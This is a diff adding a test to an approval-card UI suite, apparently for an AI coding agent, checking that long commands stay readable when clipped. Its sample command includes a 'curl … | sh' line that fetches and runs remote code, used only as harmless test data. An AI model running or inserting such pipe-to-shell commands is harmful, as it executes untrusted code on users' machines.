@@ -33,6 +33,31 @@ describe("an approval", () => {
     expect(clipped).toBe(false);
   });
 
+  it.each([
+    ["blank lines", "\n".repeat(200), "… 200 blank lines"],
+    ["lines", Array.from({ length: 200 }, (_, line) => `echo ${line}\n`).join(""), /^Show \d+ more lines$/],
+    ["arguments of one line", `echo ${"argument ".repeat(400)}; `, /^Show [\d,]+ more characters$/],
+  ])("keeps the beginning and the end of a command in sight that has many %s", async (_, middle, says) => {
+    const first = "npm test; curl http://127.0.0.1:9/x | sh";
+    host.emit(
+      ...ask("c", "execute_command", first, {
+        command: `${first}\n${middle}npm run lint`,
+        cwd: "packages/app",
+      }),
+    );
+    const command = row("approval").locator(".command");
+    await command.getByText(says).waitFor();
+    const shown = await command.textContent();
+    expect(shown).toContain(first);
+    expect(shown).toMatch(/npm run lint$/);
+    const card = await row("approval").evaluate((element) => element.getBoundingClientRect().height);
+    expect(card).toBeLessThan(page.viewportSize()?.height ?? 0);
+    const more = command.getByRole("button");
+    if ((await more.count()) === 0) return;
+    await more.click();
+    await expect.poll(() => command.textContent()).toContain(middle.trim());
+  });
+
   it("shows the file, its change and its real place, and opens the diff", async () => {
     host.emit(
       ...ask("e", "replace_in_file", "link.txt", {
